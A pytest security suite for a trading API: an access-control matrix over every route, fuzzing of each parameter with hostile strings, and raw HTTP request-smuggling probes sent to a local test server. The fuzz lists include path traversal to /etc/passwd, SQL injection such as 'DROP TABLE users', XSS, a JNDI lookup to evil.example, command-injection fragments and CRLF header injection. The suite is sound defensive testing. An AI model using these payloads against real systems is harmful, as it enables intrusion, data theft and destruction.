"""Who gets in where, from the description that the service gives of itself; hostile texts in every parameter; broken HTTP."""

import itertools
import json
import re
import socket
from collections import Counter
from collections.abc import Iterator

import httpx
import pytest
from api_kit import Served, make_world, served_people
from waiting import LONG

from make_us_rich.api.accounts import Limiter, set_disabled
from make_us_rich.api.examples import NOW, PASSWORD
from make_us_rich.api.log_ins import LogIns
from make_us_rich.api.routing import COOKIE
from make_us_rich.core.database import session

RIGHT = {"pair": "BTC_USDT", "token_id": "2000000", "name": "nobody", "run_id": "BTC_USDT-1h-none"}
QUERIES = {"/predict": {"currency": "btc", "compare": "usdt"}}
BODIES = {
    "/v1/login": {"name": "bob", "password": PASSWORD},
    "/v1/me/tokens": {"name": "phone"},
    "/v1/models/{pair}/rollback": {"reason": "too narrow"},
    "/v1/users": {"name": "dan"},
    "/v1/users/{name}": {"disabled": False},
}


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    world = make_world(tmp_path_factory.mktemp("matrix") / "home", candles=50)
    world.api.authenticator.guesses = world.api.authenticator.brakes = Limiter(times=10**6)
    world.api.logins = LogIns(times=10**6)
    world.api.longest = 0.0  # a stream says hello and ends
    for name in ("ana", "bob"):
        world.limit_calls(name, 10**6)
    yield world
    world.engine.dispose()


@pytest.fixture(scope="module")
def described(world) -> list[tuple[str, str, dict]]:
    "Every route as (method, address, what is told of it)."
    paths = world.client(None).get("/openapi.json").json()["paths"]
    return [(method.upper(), path, route) for path, methods in paths.items() for method, route in methods.items()]


def call(client: httpx.Client, method: str, path: str, **headers: str) -> httpx.Response:
    "A call that is right but for the caller."
    options: dict = {"params": QUERIES.get(path), "headers": headers, "follow_redirects": False}
    if path.startswith("/session") and method == "POST":
        options["data"] = BODIES["/v1/login"]
    elif method in ("POST", "PUT") and path in BODIES:
        options["json"] = BODIES[path]
    return client.request(method, path.format(**RIGHT), **options)


# --- who gets in


def page_session(world, name: str) -> str:
    "The cookie of somebody who logged in at the page."
    made = world.client(None).post("/session/login", data={"name": name, "password": PASSWORD}, follow_redirects=False)
    return made.cookies[COOKIE]


def test_the_matrix(world, described):
    "Every route x no token, four dead ones, other forms of showing one, a page session, member, admin."
    assert len(described) >= 35 and {route["x-access"] for _, _, route in described} == {
        "public",
        "known",
        "counted",
        "admin",
        "local",
    }
    raw, cookie = world.tokens["admin"], page_session(world, "ana")
    odd = [
        f"bearer  {raw}x",
        f"Basic {raw}",
        raw,
        f"Token {raw}",
        f"Bearer {raw} {raw}",
        "Bearer",
        "Bearer " + "m" * 9000,
    ]
    probes = 0
    for method, path, route in described:
        access, stranger = route["x-access"], world.client(None)
        dead = [call(world.client(who), method, path) for who in ("wrong", "revoked", "expired", "disabled")]
        dead += [call(stranger, method, path)]
        dead += [call(stranger, method, path, Authorization=text) for text in odd]
        if path != "/session/check":  # the only place where a cookie counts
            dead += [call(stranger, method, path, Cookie=f"{COOKIE}={shown}") for shown in (cookie, raw)]
            dead += [call(stranger, method, path, **{name: raw}) for name in ("X-Mur-Token", "X-Api-Key", "Token")]
        live = [call(world.client(who), method, path) for who in ("member", "admin")]
        probes += len(dead) + len(live)
        told = (method, path, access)
        if access == "public":
            assert {answer.status_code for answer in [*dead, *live]} <= {200, 303, 307, 503}, told
            continue
        assert {answer.status_code for answer in dead} == {401}, (told, [answer.status_code for answer in dead])
        assert not [answer for answer in dead if raw in answer.text or cookie in answer.text], told
        member, admin = (answer.status_code for answer in live)
        assert member == 403 if access in ("admin", "local") else member in (200, 201, 404), told
        assert admin in (200, 201, 404, 409), told
    assert probes > 500


def test_a_cookie_opens_the_check_and_a_disabled_user_nothing(world):
    cookie = page_session(world, "bob")
    stranger = world.client(None)
    assert stranger.get("/session/check", headers={"Cookie": f"{COOKIE}={cookie}"}).status_code == 200
    with session(world.engine) as s:
        set_disabled(s, "bob", True, NOW)
    try:
        world.ticks[0] += 2  # a second elsewhere
        shown = [{"Cookie": f"{COOKIE}={cookie}"}, {"Authorization": f"Bearer {world.tokens['member']}"}]
        assert [stranger.get("/session/check", headers=headers).status_code for headers in shown] == [401, 401]
        assert [stranger.get("/v1/me", headers=headers).status_code for headers in shown] == [401, 401]
    finally:
        with session(world.engine) as s:
            set_disabled(s, "bob", False, NOW)
        world.ticks[0] += 2


# --- hostile texts

CONTROLS = [chr(n) for n in (*range(32), 127, 128, 133, 159)]
UNICODE = [
    "\u202e\u2066abc",
    "\ufeffBTC",
    "\u200b",
    "\ud800",
    "\udfff\ud800",
    "\U0001f4a9" * 40,
    "Ａｎａ",
    "BTC\u0336_USDT",
    "ı",
    "ß" * 64,
    "١٢٣",
    "\u0000\u0000",
    "e\u0301" * 100,
    "\ufffe",
]
LENGTHS = ["x" * n for n in (1, 63, 64, 65, 119, 120, 121, 255, 256, 257, 4096)]
PATHS = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc",
    "/etc/passwd",
    "//evil.example/x",
    "file:///etc/passwd",
    "C:\\boot.ini",
    "a/../b",
    ".",
    "..",
    "...",
    "~root",
    "nul",
    "con",
    "a\x00.png",
    "/proc/self/environ",
    "%c0%ae%c0%ae/",
]
SQL = [
    "' OR 1=1--",
    '" OR ""="',
    "'; DROP TABLE users;--",
    "1 UNION SELECT sha256 FROM tokens",
    "%' AND 1=0 UNION SELECT 1--",
    "\\'; SELECT pg_sleep(9)--",
    "1;ATTACH DATABASE '/tmp/x' AS y",
    "*",
    "%",
    "_",
]
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "#{7*7}",
    "${jndi:ldap://evil.example/x}",
    "%s%n%x",
    "{0.__class__}",
    "javascript:alert(1)",
    "<!--",
    "]]>",
    "&lt;x&gt;",
    "`id`",
    "$(id)",
    "|id",
    ";id",
    "\r\nSet-Cookie: x=1",
    "x\nX-Evil: 1",
]
NUMBERS = [
    "0",
    "-0",
    "-1",
    "1e309",
    "NaN",
    "Infinity",
    "0x10",
    "1_000",
    "9" * 24,
    "2147483647",
    "2147483648",
    "-2147483649",
    "9223372036854775808",
    "1.5",
    "٣",
    " 1",
    "+1",
    "1e3",
    "true",
    "null",
    "",
    "0" * 5000 + "1",
]
HOSTILE = [*CONTROLS, *UNICODE, *LENGTHS, *PATHS, *SQL, *MARKUP, *NUMBERS]


def quoted(text: str) -> str:
    "Percent-encoded to the last byte, half characters too."
    return "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))


def schema_of(route: dict, schemas: dict) -> dict:
    "The properties of a route's JSON body."
    body = route.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema", {})
    return schemas[body["$ref"].rsplit("/", 1)[1]]["properties"] if "$ref" in body else {}


def cases(described, schemas: dict) -> Iterator[tuple[str, str, dict]]:
    "Each text in the place of each parameter of each route: in addresses, queries and bodies."
    for method, path, route in described:
        named = [(p["in"], p["name"]) for p in route.get("parameters", [])]
        named += [("body", name) for name in schema_of(route, schemas)]
        for (place, name), text in itertools.product(named, HOSTILE):
            query = dict(QUERIES.get(path, {}))
            values, options = dict(RIGHT), {}
            if place == "path":
                values[name] = quoted(text)
            elif place == "query":
                query |= {name: text}
            body = BODIES.get(path) if method in ("POST", "PUT") else None
            if body is not None:
                sent = body | {name: text} if place == "body" else body
                options = {"content": json.dumps(sent), "headers": {"Content-Type": "application/json"}}
            typed = "&".join(f"{key}={quoted(value)}" for key, value in query.items())
            yield method, path.format(**values) + (f"?{typed}" if typed else ""), options


def test_hostile_texts(world, described):
    "No fault of ours, no text echoed in a form that a browser would run, and nothing of the machine."
    schemas = world.client(None).get("/openapi.json").json()["components"]["schemas"]
    admin, codes = world.client("admin"), Counter()
    for method, address, options in cases(described, schemas):
        answer = admin.request(method, address, follow_redirects=False, **options)
        codes[answer.status_code] += 1
        told = (method, address[:200], options.get("content", "")[:200], answer.status_code, answer.text[:200])
        assert answer.status_code < 500 or answer.json()["error"] in ("no_record", "not_ready", "no_forecast"), told
        kind = answer.headers.get("content-type", "")
        assert (
            "<script>alert" not in answer.text if "html" in kind else "json" in kind or answer.status_code in (303, 307)
        ), told
        assert "root:x:" not in answer.text and "set-cookie" not in answer.headers and "x-evil" not in answer.headers, (
            told
        )
        assert answer.headers["x-content-type-options"] == "nosniff", told
    print(f"{sum(codes.values())} cases, answers: {dict(sorted(codes.items()))}")
    assert sum(codes.values()) >= 1336 and codes[422] > 500


@pytest.mark.parametrize("field", ["name", "password", "other"])
def test_hostile_texts_in_the_log_in_form(world, field):
    for text in HOSTILE:
        sent = {"name": "nobody", "password": "a wrong password", field: text}
        body = "&".join(f"{key}={quoted(value)}" for key, value in sent.items())
        answer = world.client(None).post("/session/login", content=body.encode())
        assert answer.status_code == (401 if len(body) <= 16_384 else 413), (text[:80], answer.status_code)
        assert not re.search(r"<script|onerror|\{\{|49", answer.text), text[:80]


# --- broken HTTP, to a real server


@pytest.fixture(scope="module")
def server(tmp_path_factory) -> Iterator[tuple[Served, dict[str, str]]]:
    with served_people(tmp_path_factory.mktemp("broken") / "home") as running:
        yield running


def sent(running: Served, data: bytes) -> bytes:
    "All that comes back until the server closes, or says nothing for a second."
    answer = b""
    with socket.create_connection(("127.0.0.1", int(running.url.rsplit(":", 1)[1])), timeout=LONG) as link:
        link.sendall(data)
        link.settimeout(2)
        try:
            while part := link.recv(65536):
                answer += part
        except TimeoutError:
            pass
    return answer


POST = b"POST /v1/login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
HIDDEN = b"GET /v1/users HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
SMUGGLED = {
    "two lengths": POST + b"Content-Length: 2\r\nContent-Length: 44\r\n\r\n{}" + HIDDEN,
    "the same length twice": POST + b"Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}" + HIDDEN,
    "two lengths in one": POST + b"Content-Length: 2, 44\r\n\r\n{}" + HIDDEN,
    "chunked and a length": POST + b"Content-Length: 44\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "a length and chunked": POST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + HIDDEN,
    "chunked, oddly written": POST + b"Transfer-Encoding: \x0bchunked\r\nContent-Length: 2\r\n\r\n{}" + HIDDEN,
    "chunked before the colon": POST + b"Transfer-Encoding : chunked\r\nContent-Length: 2\r\n\r\n{}" + HIDDEN,
    "bare line feeds": POST.replace(b"\r\n", b"\n") + b"Content-Length: 44\nX: y\n\n{}" + HIDDEN,
    "a length with a sign": POST + b"Content-Length: +2\r\n\r\n{}" + HIDDEN,
    "a length with a line feed": POST + b"Content-Length: 2\nX: y\r\n\r\n{}" + HIDDEN,
    "a folded header": POST + b"X: a\r\n b\r\nContent-Length: 4x\r\n\r\n{}" + HIDDEN,
    "an address with a line": b"GET /healthz HTTP/1.1\nX: y HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
}


@pytest.mark.parametrize("how", SMUGGLED)
def test_nothing_is_smuggled(server, how):
    "What is unclear is refused or read in one way; a request that hides in a body is not answered for its sender."
    running, _ = server
    answer = sent(running, SMUGGLED[how])
    codes = re.findall(rb"HTTP/1\.1 (\d+)", answer)
    assert codes and codes[0][:1] in (b"4", b"2"), answer[:200]
    if "length" in how or "chunked" in how or "folded" in how:
        assert codes[0][:1] == b"4", answer[:200]
    if "twice" in how or "two" in how or "chunked" in how or "sign" in how:
        assert len(codes) == 1, answer  # and the connection is over
    assert b'"users"' not in answer
    assert httpx.get(f"{running.url}/healthz", timeout=LONG).status_code == 200


def test_head_and_strange_methods_have_no_body_and_no_effect(server):
    running, tokens = server
    for path in ("/v1/me", "/docs", "/v1/users", "/healthz", "/none"):
        headers = f"Host: 127.0.0.1\r\nAuthorization: Bearer {tokens['admin']}\r\nConnection: close\r\n\r\n"
        answer = sent(running, f"HEAD {path} HTTP/1.1\r\n{headers}".encode())
        head, _, body = answer.partition(b"\r\n\r\n")
        assert head.split(b" ")[1] in (b"405", b"404") and body == b"", path
        for method in ("TRACE", "CONNECT", "PROPFIND", "OPTIONS", "get"):
            answer = sent(running, f"{method} {path} HTTP/1.1\r\n{headers}".encode())
            assert answer.split(b" ")[1] in (b"400", b"404", b"405"), (method, path, answer[:100])
            assert tokens["admin"].encode() not in answer
    assert "Traceback" not in running.log.read_text()
